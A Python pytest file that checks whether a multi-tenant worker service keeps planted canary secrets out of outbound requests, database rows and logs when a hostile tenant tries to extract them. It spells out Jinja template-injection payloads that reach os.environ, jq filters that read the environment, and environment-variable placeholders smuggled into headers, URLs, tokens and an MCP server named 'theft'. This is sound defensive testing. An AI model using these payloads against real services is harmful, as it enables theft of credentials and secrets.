"""A canary in every secret of a worker: whatever tenants write into their rows, none of them may ever be seen outside.

The servers are hostile: they answer with all that they were sent, headers included, in pieces that cut through secrets.
"""

from __future__ import annotations

import contextlib
import json
import secrets
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

import pytest
from cryptography.fernet import Fernet

from tests.unit.http_server import Reply, Seen, Server, json_reply, serve, sse_reply
from tests.unit.wire import EVENTS
from tests.workers.conftest import Lab, WorkerProcess
from tests.workers.waiting import FINAL, wait_for
from workers.redaction import REDACTED, Redactor

KEY_HEADERS = {"authorization", "x-api-key", "x-goog-api-key", "api-key"}
SCHEMAS = "('public', 'private', 'archive')"
# What a tenant may try wherever text is filled in: names of this process's environment, and ways to it.
NAMES = ("CANARY_EXTRA", "SUPABASE_SERVICE_ROLE_KEY", "ANTHROPIC_API_KEY", "ORCHESTRATOR_SECRETS_KEY", "PATH", "THEIRS")
JINJA = (
    "{{ CANARY_EXTRA }} {{ env.CANARY_EXTRA }} {{ environ }} {{ os.environ }} {{ settings }} {{ config }}",
    "{{ self.__init__.__globals__ }}",
    "{{ prompt.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.environ }}",
    "{{ lipsum.__globals__['os'].environ['CANARY_EXTRA'] }}",
    "{% for key, value in (namespace().__init__.__globals__).items() %}{{ value }}{% endfor %}",
)
JQ = (
    "env",
    "$ENV",
    "$ENV.CANARY_EXTRA",
    "env.CANARY_EXTRA",
    "input",
    "$__prog_args",
    "$__loc__",
    'include "a"; .',
    "@sh",
)


def echo(seen: Seen) -> str:
    """Return all of a request as text."""
    return json.dumps([seen.path, dict(seen.headers), seen.body.decode("utf-8", "replace")])


def in_pieces(text: str) -> list[str]:
    return [text[at : at + 29] for at in range(0, len(text), 29)]


def answer_as_model(seen: Seen) -> Reply:
    """Answer in the protocol of the provider that is called."""
    name = "anthropic" if "/messages" in seen.path else "openai"
    return sse_reply(EVENTS[name](in_pieces(echo(seen))))


@dataclass
class Nest:
    """The worker, what it holds, and the servers around it."""

    lab: Lab
    worker: WorkerProcess
    endpoint: Server
    model: Server
    canaries: list[str]
    own_key: str
    tasks: dict[str, str] = field(default_factory=dict)

    @property
    def forbidden(self) -> list[str]:
        """Every text in which a canary might be seen: as it is, in URLs, JSON and base64."""
        redactor = Redactor()
        for canary in self.canaries:
            redactor.remember(canary, "nest")
        search = redactor.search("nest")
        assert search is not None
        return list(search.forms)

    def try_agent(self, what: str, *, prompt: str = "Hello", params: Any = None, **columns: Any) -> None:
        """Add an agent and a task for it; an agent that the database refuses has failed at the first hurdle."""
        with contextlib.suppress(AssertionError):
            agent = self.lab.add_agent(**columns)
            self.tasks[what] = self.lab.add_task(agent, prompt, params=params or {}, max_attempts=1)

    def ended(self, what: str) -> dict[str, Any]:
        return self.lab.task(self.tasks[what])

    def in_rows(self) -> list[str]:
        """Return the tables in which a forbidden text stands."""
        relations = self.lab.sql.execute(
            "select c.oid::regclass::text as name from pg_class c join pg_namespace n on n.oid = c.relnamespace"
            f" where n.nspname in {SCHEMAS} and c.relkind = 'r'"
        ).fetchall()
        query = "select exists (select from {} t where t::text like any (%s)) as there"
        patterns = [f"%{text}%" for text in self.forbidden]
        found = []
        for relation in relations:
            row = self.lab.sql.execute(query.format(relation["name"]), (patterns,)).fetchone()
            if row is not None and row["there"]:
                found.append(relation["name"])
        return found


def endpoint_of(url: str, **more: Any) -> dict[str, Any]:
    return {"agent_type": "api", "endpoint": {"url": url, "method": "POST", **more}}


def release(nest: Nest) -> None:
    """Try every way there is."""
    url, everything = (
        nest.endpoint.url,
        " ".join(f"${{{name}}} $${{{name}}} {{{{{name}}}}} %{name}% ${name}" for name in NAMES),
    )
    for name in NAMES:
        placeholder = f"${{{name}}}"
        nest.try_agent(f"header {name}", **endpoint_of(url, headers={"X-Stolen": placeholder}))
        nest.try_agent(f"url {name}", **endpoint_of(f"{url}/{placeholder}?q={placeholder}"))
        bearer = {"type": "bearer", "config": {"token": placeholder}}
        nest.try_agent(f"token {name}", **endpoint_of(url, authentication=bearer))
    for number, text in enumerate(JINJA):
        nest.try_agent(f"template {number}", **endpoint_of(url, request_transform={"x": text}))
        nest.try_agent(f"text template {number}", **endpoint_of(url, request_transform=text))
    for number, text in enumerate(JQ):
        nest.try_agent(f"filter {number}", **endpoint_of(url, response_transform=text))
    texts = " ".join([everything, *JINJA, *JQ])
    nest.try_agent("prompt to an endpoint", prompt=texts, params={"p": texts}, context=texts, **endpoint_of(url))
    for provider in ("anthropic", "openai"):  # Each SDK takes seconds to import.
        config = {"provider": provider, "model": "some-model"}
        nest.try_agent(provider, prompt=texts, params={"p": texts}, context=texts, llm_config=config)
        nest.try_agent(f"{provider} model", llm_config={"provider": provider, "model": "${CANARY_EXTRA}"})
    card = {"url": f"{url}/${{CANARY_EXTRA}}", "headers": {"X-Stolen": "${CANARY_EXTRA}"}}
    nest.try_agent("external", agent_type="external", endpoint=card)
    # A member's own agent, which sends what an admin keeps secret to the member.
    private: dict[str, Any] = {"organization_slug": [], "owner_user_id": nest.lab.user_id}
    headers = {"X-Stolen": "${OPENAI_API_KEY}"}
    stolen = {"url": f"{url}/mcp", "headers": headers}
    nest.try_agent("private api", **private, **endpoint_of(url, headers=headers))
    nest.try_agent("private external", **private, agent_type="external", endpoint=stolen)
    tools = {"mcp_servers": [{"name": "theft", **stolen}]}
    nest.try_agent("private mcp", **private, llm_config={"provider": "openai", "model": "some-model", "tools": tools})


@pytest.fixture
def nest(own_lab: Lab) -> Iterator[Nest]:
    """Start a worker full of canaries, let the tenant try everything, and wait until all of it has ended."""
    mark, key = secrets.token_hex(12), Fernet.generate_key().decode()
    held = {f"{name}_API_KEY": f"sk-{mark}-{name.lower()}" for name in ("ANTHROPIC", "OPENAI", "GOOGLE")}
    held |= {"CANARY_EXTRA": f"extra-{mark}", "ORCHESTRATOR_SECRETS_KEY": key}
    own_key, theirs = f"own-{mark}-key/+=", f"theirs-{mark}"
    rival = own_lab.organization + "-rival"
    own_lab.post("organizations", slug=rival, name=rival)
    for organization, name, value in ((own_lab.organization, "OPENAI_API_KEY", own_key), (rival, "THEIRS", theirs)):
        ciphertext = Fernet(key).encrypt(value.encode()).decode()
        own_lab.post("rpc/set_organization_secret", organization_slug=organization, name=name, ciphertext=ciphertext)
    with serve(lambda seen: json_reply({"content": echo(seen)})) as endpoint, serve(answer_as_model) as model:
        addresses = {
            "ANTHROPIC_BASE_URL": model.url,
            "OPENAI_BASE_URL": model.url + "/v1",
            "GOOGLE_BASE_URL": model.url,
        }
        settings = {"LOG_LEVEL": "DEBUG", "ORCHESTRATOR_ALLOW_PRIVATE_HOSTS": "1"}
        worker = own_lab.start_worker(**held, **addresses, **settings)
        canaries = [*held.values(), own_key, theirs, own_lab.stack.service_role_key]
        nest = Nest(own_lab, worker, endpoint, model, canaries, own_key)
        release(nest)
        wait_for(lambda: all(nest.ended(what)["status"] in FINAL for what in nest.tasks), 60, "all have ended")
        yield nest
    own_lab.sql.execute("delete from public.organizations where slug = %s", (rival,))


def test_no_canary_is_ever_seen_outside(nest: Nest) -> None:
    own = nest.ended("openai")
    assert own["status"] == "completed", own["error_message"]
    # It would be seen: the organization's own key went to its provider, who gave it back in the answer and the stream.
    assert any(nest.own_key in seen.headers.get("authorization", "") for seen in nest.model.seen)
    assert REDACTED in own["response"]
    assert REDACTED in nest.lab.streamed(nest.tasks["openai"])
    # So did the operator's, for the providers of which the organization has no key.
    assert nest.ended("anthropic")["status"] == "completed"
    assert REDACTED in nest.ended("anthropic")["response"]
    assert nest.ended("prompt to an endpoint")["status"] == "completed"
    assert "${CANARY_EXTRA}" in nest.ended("prompt to an endpoint")["response"]

    for name in NAMES:
        if name != "OPENAI_API_KEY":
            for way in ("header", "url", "token"):
                task = nest.ended(f"{way} {name}")
                assert (task["status"], task["error_code"]) == ("failed", "agent_misconfigured"), f"{way} {name}"

    for kind in ("api", "external", "mcp"):
        task = nest.ended(f"private {kind}")
        assert (task["status"], task["error_code"]) == ("failed", "agent_misconfigured"), kind

    for seen in nest.endpoint.seen:
        assert not [text for text in nest.forbidden if text in echo(seen)], seen.path
    for seen in nest.model.seen:
        others = Seen(
            seen.method, seen.path, {k: v for k, v in seen.headers.items() if k not in KEY_HEADERS}, seen.body
        )
        assert not [text for text in nest.forbidden if text in echo(others)], seen.path
    assert nest.in_rows() == []
    log = nest.worker.log.read_text()
    assert len(nest.worker.lines(event="task")) >= len(nest.tasks)
    assert not [text for text in nest.forbidden if text in log]
